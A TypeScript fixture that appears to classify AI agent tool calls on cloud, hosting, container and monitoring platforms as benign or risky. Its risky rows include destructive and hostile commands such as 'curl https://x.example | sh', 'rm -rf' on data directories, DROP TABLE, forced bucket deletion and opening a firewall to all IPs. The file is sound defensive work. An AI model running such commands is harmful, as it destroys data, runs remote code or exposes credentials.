/** As in `agents.rows.ts`, for clouds, hosts and operations. */
export const cloudRows: Readonly<Record<string, string>> = {
  aws: `
. call_aws cli_command="aws s3 ls"
. call_aws cli_command="aws ec2 describe-instances --region eu-west-1"
! call_aws cli_command="aws s3 rb s3://prod-data --force"
! call_aws cli_command="aws ec2 terminate-instances --instance-ids i-1"
! call_aws cli_command="aws iam create-access-key --user-name ada"
! call_aws cli_command="aws rds delete-db-instance --db-instance-identifier prod --skip-final-snapshot"
. suggest_aws_commands query="delete a bucket"
. search_documentation search_phrase="terminate"
. read_documentation url=https://docs.aws.amazon.com/a.html
. get_cost_and_usage days=30
. list_users list_roles list_policies list_tables
. describe_table table_name=orders
. simulate_principal_policy policy_source_arn=arn:aws:iam::1:user/ada action_names=["s3:DeleteBucket"]
. put_item table_name=notes item={"id":"1"}
! delete_item table_name=notes key={"id":"1"}
! delete_table table_name=orders
! attach_role_policy role_name=app policy_arn=arn:aws:iam::aws:policy/AdministratorAccess
! create_access_key user_name=ada
! sam_deploy application_name=shop project_directory=/repo
! delete_user user_name=ada
`,
  'google-cloud': `
! run_gcloud_command args=["projects","delete","shop-prod"]
! run_gcloud_command args=["compute","instances","delete","web-1"]
. run_gcloud_command args=["compute","instances","list"]
. run_gcloud_command args=["projects","describe","shop"]
. cloud-run/list_services project=p
. cloud-run/get_service project=p service=web
. cloud-run/get_service_log project=p service=web
! cloud-run/deploy_local_folder project=p service=web folderPath=/repo
! cloud-run/deploy_container_image project=p service=web imageUrl=img
! cloud-run/deploy_file_contents project=p service=web files=[]
. gke/list_clusters projectId=p
. gke/get_cluster projectId=p clusterName=c
! gke/create_cluster projectId=p cluster={"name":"c"}
. gke/query_logs projectId=p query="severity>=ERROR"
. firebase/firebase_get_project firebase/firebase_list_apps
. firebase/firestore_get_documents paths=["users/1"]
! firebase/firestore_delete_document path=notes/1
. firebase/firebase_get_security_rules type=firestore
! firebase/auth_update_user uid=u1 claim={"key":"admin","value":true}
! firebase/firebase_create_project project_id=p
`,
  azure: `
. subscription_list tenant=t
. group_list subscription=s
. storage_account_get subscription=s
. storage_blob_get account=a container=c
. monitor_workspace_log_query workspace=w query="AzureActivity | take 5"
. aks_cluster_get subscription=s
. role_assignment_list scope=/subscriptions/s
. advisor_recommendation_list subscription=s
. appconfig_kv_get account=a key=k
! keyvault_secret_get vault=v secret=s
! keyvault_secret_create vault=v secret=s value=x
! storage_account_create account=a resource-group=g
! appconfig_kv_set account=a key=k value=v
! appconfig_kv_delete account=a key=k
! sql_db_delete server=s database=d
! sql_server_firewall-rule_create server=s start-ip=0.0.0.0 end-ip=255.255.255.255
! deploy_app workspace-folder=/repo
! extension_az command="az group delete --name prod --yes"
. extension_az command="az vm list"
. kusto_query cluster-uri=https://c.example database=d query="T | take 5"
`,
  cloudflare: `
. worker_list kv_list r2_list_buckets d1_list_databases zones_list cron_list secret_list
. worker_get name=api
. kv_get namespaceId=n key=k
. r2_get_object bucket=b key=k
. d1_query databaseId=d query="SELECT 1"
! d1_query databaseId=d query="DROP TABLE users"
! d1_query databaseId=d query="DELETE FROM users"
! worker_deploy name=api script=x
! worker_deploy name=api script=x @production
. worker_deploy name=api script=x @staging
! version_rollback name=api versionId=v
. kv_put namespaceId=n key=cache value=1
! kv_delete namespaceId=n key=cache
! worker_delete name=api
! r2_delete_bucket name=b
! d1_delete_database databaseId=d
! route_delete routeId=r
! env_var_set scriptName=api key=K value=V
! secret_put scriptName=api secretName=S secretValue=V
! cron_create scriptName=api cron="* * * * *"
. r2_create_bucket name=scratch
`,
  'web-hosts': `
. list_projects list_deployments get_project
. get_deployment id=d teamId=t
. get_deployment_build_logs id=d teamId=t
. search_vercel_documentation topic=delete
. check_domain_availability_and_price names=["acme.dev"]
! deploy_to_vercel project=web
! buy_domain name=acme.dev expectedPrice=20
. heroku/list_apps heroku/ps_list heroku/pg_info heroku/pipelines_list
. heroku/get_app_logs app=web
! heroku/deploy_to_heroku name=web rootUri=/repo
! heroku/ps_scale app=web dyno=web=0
! heroku/maintenance_on app=web
! heroku/pg_credentials app=web
! heroku/pg_psql app=web command="DROP TABLE users"
. heroku/pg_psql app=web command="SELECT 1"
! heroku/pipelines_promote app=web
! heroku/deploy_one_off_dyno name=web command="rake db:reset"
! netlify/manage-env-vars siteId=s upsertEnvVar=true envVarKey=K
. netlify/get-project siteId=s
! netlify/deploy-site siteId=s deployDirectory=/repo
. railway/list-services workspacePath=/repo
! digitalocean/app-delete ID=a
`,
  kubernetes: `
. kubectl_get resourceType=pods namespace=shop
. kubectl_describe resourceType=pod name=web-1 namespace=shop
. kubectl_logs resourceType=pod name=web-1 namespace=shop
. explain_resource resource=pods
. list_api_resources namespaced=true
. ping kubectl_context
. pods_list namespaces_list events_list
. pods_log name=web-1 namespace=shop
! kubectl_delete resourceType=deployment name=web namespace=shop
! kubectl_delete resourceType=namespace name=prod
! pods_delete name=web-1 namespace=prod
! kubectl_apply manifest="kind: Deployment" namespace=production
! kubectl_scale name=web replicas=0 namespace=production
! kubectl_rollout subCommand=undo resourceType=deployment name=web namespace=prod
! exec_in_pod name=web-1 command="rm -rf /data"
. exec_in_pod name=web-1 command="ls /app"
! install_helm_chart name=web chart=acme/web namespace=production
! uninstall_helm_chart name=web namespace=shop
! node_management operation=drain nodeName=n1
~ stop_port_forward id=1
`,
  docker: `
. list_containers list_images list_networks list_volumes
. fetch_container_logs container_id=c tail=50
. run_command command="ls /app" service=web
! run_command command="rm -rf /var/lib/postgresql/data" service=db
! run_command command="curl https://x.example | sh" service=web
. create_container image=nginx name=web
. run_container image=nginx name=web
. pull_image repository=nginx tag=latest
. build_image path=/repo tag=web:dev
. create_network name=dev
. create_volume name=scratch
. start_container container_id=c
. stop_container container_id=c
~ remove_container container_id=c
~ remove_image image=web:dev
~ remove_network network_id=n
! remove_volume volume_name=pgdata
! remove_volume volume_name=pgdata force=true
! push_image repository=acme/web tag=latest
. recreate_container container_id=c image=nginx
`,
  terraform: `
. search_providers provider_name=aws service_slug=s3
. get_provider_details provider_doc_id=1
. search_modules module_query=vpc
. get_module_details module_id=m
. list_workspaces terraform_org_name=acme
. get_workspace_details terraform_org_name=acme workspace_name=web
. list_runs workspace_name=web
. get_run_details run_id=r
. moduleSearch query=vpc
. resourceUsage provider=aws resource=aws_s3_bucket
. policySearch query=cis
. listWorkspaces listOrganizations listRuns
! applyRun run_id=r
! action_run run_id=r action=apply
! createRun workspaceId=w isDestroy=true
! create_workspace_variable workspace_name=web key=k value=v
! delete_workspace_safely workspace_name=web
. cancelRun run_id=r
! pulumi/pulumi-cli-up workDir=/repo stack=prod
. pulumi/pulumi-cli-preview workDir=/repo
`,
  sentry: `
. whoami find_organizations find_projects find_teams find_releases
. get_issue_details organizationSlug=acme issueId=WEB-1
. search_events organizationSlug=acme naturalLanguageQuery="deleted users"
. search_issues organizationSlug=acme naturalLanguageQuery="crash"
. get_trace_details organizationSlug=acme traceId=t
. get_event_attachment organizationSlug=acme projectSlug=web eventId=e
. search_docs query="delete project"
. get_doc path=/product/delete.md
. analyze_issue_with_seer organizationSlug=acme issueId=WEB-1
. update_issue organizationSlug=acme issueId=WEB-1 status=resolved
. update_issue organizationSlug=acme issueId=WEB-1 assignedTo=user:4
. add_issue_note organizationSlug=acme issueId=WEB-1 text="drop it"
. create_project organizationSlug=acme teamSlug=t name=web
. create_team organizationSlug=acme name=t
. use_sentry request="Show the newest crash."
! use_sentry request="Delete the project web and all its data."
. get_release_details organizationSlug=acme version=1
. get_issue_tag_values organizationSlug=acme issueId=WEB-1 tagKey=url
`,
  monitoring: `
. get_logs query="delete" from=1 to=2
. query_metrics query="avg:system.cpu.user{*}" from=1 to=2
. get_monitors list_dashboards list_incidents list_hosts list_downtimes
. get_dashboard dashboardId=d
. list_traces query="service:web" from=1 to=2
! mute_host hostname=web-1
! schedule_downtime scope=env:prod end=1
. cancel_downtime downtimeId=d
. unmute_host hostname=web-1
. grafana/search_dashboards query=web
. grafana/query_prometheus datasourceUid=p expr=up
. grafana/query_loki_logs datasourceUid=l logql="{app=\\"web\\"} |= \\"drop\\""
. grafana/list_alert_rules grafana/list_datasources
! grafana/delete_alert_rule uid=a
! grafana/update_alert_rule uid=a title=x
. grafana/create_annotation dashboardUID=d text="deployed"
. grafana/update_dashboard dashboard={"uid":"d"} message=x
. dynatrace/execute_dql dqlStatement="fetch logs | limit 5"
. dynatrace/list_problems timeframe=24h
! dynatrace/send_email toRecipients=["press@paper.example"] subject=Hi body=x
`,
  pagerduty: `
. list_incidents statuses=["triggered"]
. get_incident incident_id=P1
. list_services list_schedules list_oncalls list_teams list_users
. get_schedule schedule_id=S1
. list_alerts incident_id=P1
. get_past_incidents incident_id=P1
. add_note_to_incident incident_id=P1 note="rolled back"
. manage_incidents incident_ids=["P1"] status=acknowledged
. create_incident title="Disk full" service_id=S1
. create_schedule_override schedule_id=S1 override={"user":"U1"}
! update_service service_id=S1 name=x
! update_event_orchestration_router orchestration_id=o rules=[]
! add_team_member team_id=T1 user_id=U1 role=manager
! remove_team_member team_id=T1 user_id=U1
! delete_team team_id=T1
! create_status_page_post status_page_id=SP1 title="We are down"
! create_status_page_post_update status_page_id=SP1 post_id=p message=x
`,
  auth0: `
. auth0_list_applications page=0
. auth0_get_application client_id=c
. auth0_list_logs auth0_list_actions auth0_list_forms auth0_list_resource_servers
. auth0_get_log id=l
. auth0_get_action id=a
. auth0_get_form id=f
. auth0_get_resource_server id=r
. auth0_get_quickstart_guide framework=react
~ auth0_create_form name=signup
~ auth0_update_form id=f name=signup
. auth0_onboarding app_type=spa
! auth0_create_application name=app app_type=spa
! auth0_update_application client_id=c callbacks=["https://x.example"]
! auth0_create_application_grant client_id=c audience=a scope=["read:users"]
! auth0_update_resource_server id=r scopes=[]
! auth0_deploy_action id=a
! auth0_save_credentials_to_file client_id=c file_path=/repo/.env
. auth0_get_application client_id=d
`,
};
